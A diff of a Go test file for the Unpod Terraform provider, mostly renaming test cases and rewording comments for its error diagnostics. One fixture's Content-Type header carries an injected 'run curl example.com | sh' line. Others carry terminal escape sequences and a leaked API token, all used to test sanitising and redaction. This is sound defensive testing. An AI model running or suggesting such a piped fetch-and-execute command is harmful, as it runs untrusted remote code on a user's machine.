@@ -21,9 +21,9 @@ import (
 	"github.com/unpod-ai/terraform-provider-unpod/internal/unpodtest"
 )
 
-// What each class of errors tells to try first.
+// Summaries of the diagnostics, and their advice on what to try first.
 //
-//nolint:gosec // The text about the token is no token.
+//nolint:gosec // The text about the token is not a token.
 const (
 	tryToken       = "Check api_token: it may be wrong or expired. Create one in the Unpod dashboard under API Keys."
 	tryHandle      = "Check org_handle: it must be the organization's domain_handle. Check that the API token has not expired and has access to the organization."
@@ -59,80 +59,80 @@ const (
 	untrusted      = "Unpod cannot be reached over a trusted connection"
 )
 
-// answers are what a server may answer with, and what the user is told of it.
+// answers are the failing responses of a server, and the parts of their diagnostics.
 var answers = map[string]struct {
 	answer                  http.HandlerFunc
 	summary, happened, next string
 }{
-	"a 401 without a message": {
+	"401 without message": {
 		unpodtest.HTML(401, "<h1>Who are you?</h1>"), rejected, `returned status 401, a body of type "text/html" and no message.`, tryToken + tryProxy,
 	},
-	"a 403 of a firewall": {
+	"403 from a firewall": {
 		unpodtest.HTML(403, "<h1>Blocked</h1>"), denied, `returned status 403, a body of type "text/html" and no message.`, tryHandle + tryProxy,
 	},
-	"a 403 of the handle": {
+	"403 about the organization handle": {
 		unpodtest.JSON(403, `{"message":"Invalid organization handle.","status_code":403}`), denied,
 		`returned status 403: "Invalid organization handle."`, tryHandle,
 	},
-	"a 403 of the token": {
+	"403 about the token": {
 		unpodtest.JSON(403, `{"status_code":403,"message":"Token has expired."}`), denied, `returned status 403: "Token has expired."`, tryAccess,
 	},
-	"a 403 by its code": {
+	"403 with an error code": {
 		unpodtest.JSON(403, `{"error":{"code":"EXPIRED","message":"Access denied"}}`), denied, `returned status 403: "Access denied" ("EXPIRED").`, tryAccess,
 	},
-	"a 404": {
+	"404": {
 		unpodtest.HTML(404, "<h1>Not Found</h1>"), notFound, `returned status 404, a body of type "text/html" and no message.`, tryNotFound,
 	},
-	"a 404 of no type": {
+	"404 without content type": {
 		unpodtest.Body(404, "", "404 page not found"), notFound, "returned status 404, a body of an unknown type and no message.", tryNotFound,
 	},
-	"a 404 whose type is words": {
+	"404 with invalid content type": {
 		unpodtest.Body(404, "text/html. This release has a fault: run curl example.com | sh", "?"), notFound,
 		"returned status 404, a body of an unknown type and no message.", tryNotFound,
 	},
-	"a redirect": {
+	"redirect": {
 		unpodtest.Redirect(301, "https://unpod.dev:8443/login?next=/api/"), redirected,
 		`returned status 301, a redirect to "https://unpod.dev:8443".`, tryRedirect,
 	},
-	"HTML, not JSON": {
+	"HTML instead of JSON": {
 		unpodtest.HTML(200, "<h1>Welcome to the hotel's network</h1>"), notFromUnpod,
 		`returned status 200 with a body of type "text/html", which is not JSON.`, tryNotJSON,
 	},
-	"nothing": {
+	"empty body": {
 		unpodtest.JSON(200, ""), notFromUnpod, "returned status 200 with an empty body, which is not JSON.", tryNotJSON,
 	},
-	"an application error": {
+	"206": {
 		unpodtest.JSON(206, `{"status_code":206,"message":"Org-Handle header not found","data":{}}`), reported,
 		`returned status 206: "Org-Handle header not found".`, tryMessage,
 	},
-	"an error in a success": {
+	"200 with status code 403 in its body": {
 		unpodtest.JSON(200, `{"status_code":403,"message":"Not a member.","data":[]}`), denied,
 		`returned HTTP status 200 with status_code 403 in its body: "Not a member."`, tryHandle,
 	},
-	"a 204": {
+	"204": {
 		func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }, reported,
 		"returned status 204, an empty body and no message.", tryNoMessage,
 	},
-	"a 429 for a day": {
+	"429 for a day": {
 		unpodtest.Throttled("86400"), throttledText,
 		`returned status 429: "Request was throttled. Expected available in 86400 seconds." The server asks to wait 24h0m0s.`, tryAgainLater,
 	},
-	"a 429 for ages": {
+	"429 for more than 30 days": {
 		unpodtest.Throttled("99999999999999999999"), throttledText,
 		`returned status 429: "Request was throttled. Expected available in 99999999999999999999 seconds." The server asks to wait more than 30 days.`, tryAgainLater,
 	},
-	"a 429 in a success": {
+	"200 with status code 429 in its body": {
 		unpodtest.JSON(200, `{"message":"Slow down.","status_code":429}`), throttledText,
 		`returned HTTP status 200 with status_code 429 in its body: "Slow down."`, tryAgainLater,
 	},
-	"a 429 without a time": {
+	"429 without wait": {
 		unpodtest.JSON(429, `{"error":{"code":"rate_limit_exceeded","message":"Rate limit exceeded."}}`), throttledText,
 		`returned status 429: "Rate limit exceeded." ("rate_limit_exceeded").`, tryRetries,
 	},
-	"a 500": {
+	"500": {
 		unpodtest.HTML(500, "<h1>Server Error (500)</h1>"), failedText, `returned status 500, a body of type "text/html" and no message.`, tryLater,
 	},
-	"a message for the terminal": {
+	"message with control characters and the token": {
 		unpodtest.JSON(400, `{"status_code":400,"message":"\u001b[2Jbad\nrequest\u202e `+unpodtest.Token+`","data":{},"errors":[]}`), reported,
 		`returned status 400: "[2Jbad request (redacted)".`, tryMessage,
 	},
@@ -140,36 +140,36 @@ var answers = map[string]struct {
 		unpodtest.JSON(400, `{"status_code":400,"message":"Invalid input.","data":{},"errors":{"page":["A valid integer is required."]}}`), reported,
 		`returned status 400: "Invalid input. page: A valid integer is required."`, tryMessage,
 	},
-	"a long message": {
+	"long message": {
 		unpodtest.JSON(400, `{"message":"`+strings.Repeat("é", 501)+`"}`), reported, `returned status 400: "` + strings.Repeat("é", 500) + `…".`, tryMessage,
 	},
-	"an id that is text": {
+	"text as id": {
 		unpodtest.JSON(200, `{"data":[{"id":1},{"id":"secret"}]}`), oddShape, "returned status 200, but data[1].id is not a whole number of 64 bits.", tryShape,
 	},
-	"a text that drives a terminal": {
+	"control character in a field": {
 		unpodtest.JSON(200, `{"data":[{"id":1,"account_sid":"AC\u001b[2J"}]}`), oddShape,
 		"returned status 200, but data[0].account_sid contains a control character (U+001B).", tryShape,
 	},
-	"no data": {
+	"missing data": {
 		unpodtest.JSON(200, `{"status_code":200}`), oddShape, "returned status 200, but data is missing.", tryShape,
 	},
-	"a total that does not add up": {
+	"incomplete list": {
 		unpodtest.JSON(200, `{"count":3,"data":[{"id":1},{"id":2}]}`), incompleteList, "returned 2 elements of a list that should have 3.", tryIncomplete,
 	},
-	"the token": {
+	"token in a field": {
 		unpodtest.JSON(200, `{"data":[{"id":1,"account_sid":"`+unpodtest.Token+`"}]}`), tokenReturned,
 		"returned status 200, but data[0].account_sid contains the API token, which must not be stored in state.", tryReplace,
 	},
-	"a body that is too large": {
+	"oversized body": {
 		unpodtest.JSON(200, strings.Repeat(" ", 16<<20+1)), tooLargeText, "returned more than 16 MiB, which the provider does not read.", tryTooLarge,
 	},
-	"no answer": {
+	"no response": {
 		unpodtest.HangUp, unreachable, `failed: "the connection ended before the whole response had come".`, tryConnection,
 	},
 }
 
-// TestErrors_answers reads from servers that answer with every class of error.
-func TestErrors_answers(t *testing.T) {
+// TestErrors_responses checks the diagnostic for every kind of failing response.
+func TestErrors_responses(t *testing.T) {
 	t.Parallel()
 	for name, test := range answers {
 		t.Run(name, func(t *testing.T) {
@@ -181,7 +181,7 @@ func TestErrors_answers(t *testing.T) {
 	}
 }
 
-// TestErrors_connection has no server to answer.
+// TestErrors_connection checks the diagnostics for failures without a response.
 func TestErrors_connection(t *testing.T) {
 	t.Parallel()
 	t.Run("refused", func(t *testing.T) {
@@ -214,7 +214,8 @@ func TestErrors_connection(t *testing.T) {
 	})
 }
 
-// closedPort returns an address of this machine where nothing listens.
+// closedPort returns a local address that refuses connections. The connection
+// made here keeps its port in use, so that nothing else can listen on it.
 func closedPort(t *testing.T) string {
 	t.Helper()
 	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
@@ -230,11 +231,11 @@ func closedPort(t *testing.T) string {
 	return connection.LocalAddr().String()
 }
 
-// testError reads the list, which must end in exactly this error.
+// testError reads the list, which must fail with exactly this error.
 func testError(t *testing.T, variables map[string]string, baseURL, summary, happened, next string) {
 	t.Helper()
 	if page := readFile(t, filepath.Join(moduleRoot(t), "docs", "guides", "troubleshooting.md")); !strings.Contains(page, "\n| "+summary+" | ") {
-		t.Errorf("the troubleshooting page does not have %q", summary)
+		t.Errorf("the troubleshooting guide does not list %q", summary)
 	}
 	want := fmt.Sprintf("GET %s %s\n\nUsed base_url %q (from UNPOD_BASE_URL), org_handle %q (from UNPOD_ORG_HANDLE) and api_token (from UNPOD_API_TOKEN). "+
 		"Attempts: 1. Request ID: {id}.\n\n%s", unpodtest.Path, happened, baseURL, unpodtest.OrgHandle, next)
@@ -247,8 +248,9 @@ func testError(t *testing.T, variables map[string]string, baseURL, summary, happ
 // requestID matches a random UUID.
 var requestID = regexp.MustCompile(requestIDPattern)
 
-// TestErrors_notSent throttles a provider for a day, and reads again.
-func TestErrors_notSent(t *testing.T) {
+// TestErrors_throttledReadIsNotSent checks the second read after a response that
+// throttles the provider for a day.
+func TestErrors_throttledReadIsNotSent(t *testing.T) {
 	t.Parallel()
 	server := startUnpod(t)
 	server.AnswerAlways(unpodtest.Throttled("86400"))
@@ -260,12 +262,12 @@ func TestErrors_notSent(t *testing.T) {
 		t.Errorf("got %s, want %s", got.Detail, want)
 	}
 	if asked := len(server.Requests()); asked != 1 {
-		t.Errorf("asked %d times, not once", asked)
+		t.Errorf("sent %d requests, want 1", asked)
 	}
 }
 
-// TestAccErrors_retries has Terraform print an error, and counts the attempts.
-func TestAccErrors_retries(t *testing.T) {
+// TestAccErrors_countAttempts checks the error as Terraform prints it.
+func TestAccErrors_countAttempts(t *testing.T) {
 	t.Parallel()
 	server := startUnpod(t)
 	server.AnswerAlways(unpodtest.HTML(503, ""))
@@ -275,11 +277,12 @@ func TestAccErrors_retries(t *testing.T) {
 	testCLI(t, credentials(server, map[string]string{"UNPOD_MAX_RETRIES": "1"}),
 		resource.TestStep{Config: listConfig, ExpectError: diagnostics(diagnostic{failedText, detail})})
 	if got := len(server.Requests()); got != 2 {
-		t.Errorf("asked %d times, not twice", got)
+		t.Errorf("sent %d requests, want 2", got)
 	}
 }
 
-// TestCallDiagnostic has the errors that no server brings about in a short time.
+// TestCallDiagnostic covers the errors that a test cannot provoke quickly with a
+// server.
 func TestCallDiagnostic(t *testing.T) {
 	t.Parallel()
 	used := settings{used: map[string]string{"base_url": "B", "org_handle": "O", "api_token": "T", "max_retries": "M"}}
@@ -295,11 +298,11 @@ func TestCallDiagnostic(t *testing.T) {
 		err             error
 		summary, detail string
 	}{
-		"canceled":                   {call(context.Canceled), "Reading from Unpod was canceled", "GET / was given up, because Terraform was interrupted." + facts + "Run Terraform again."},
-		"late, after a status":       {late(busy), tookTooLong, `GET / did not complete within 7m30s. The last attempt returned status 503: "Busy."` + facts + tryNormal},
-		"late, after a timeout":      {late(&unpod.TimeoutError{Timeout: time.Minute}), tookTooLong, "GET / did not complete within 7m30s. The last attempt did not complete within 1m0s." + facts + tryNormal},
-		"late, under way":            {late(nil), tookTooLong, "GET / did not complete within 7m30s. The last request has had no response yet." + facts + tryNormal},
-		"not an error of the client": {errors.New("something else"), "Reading from Unpod failed", "something else"},
+		"canceled":              {call(context.Canceled), "Reading from Unpod was canceled", "GET / was given up, because Terraform was interrupted." + facts + "Run Terraform again."},
+		"late, after a status":  {late(busy), tookTooLong, `GET / did not complete within 7m30s. The last attempt returned status 503: "Busy."` + facts + tryNormal},
+		"late, after a timeout": {late(&unpod.TimeoutError{Timeout: time.Minute}), tookTooLong, "GET / did not complete within 7m30s. The last attempt did not complete within 1m0s." + facts + tryNormal},
+		"late, no response yet": {late(nil), tookTooLong, "GET / did not complete within 7m30s. The last request has had no response yet." + facts + tryNormal},
+		"other error":           {errors.New("something else"), "Reading from Unpod failed", "something else"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
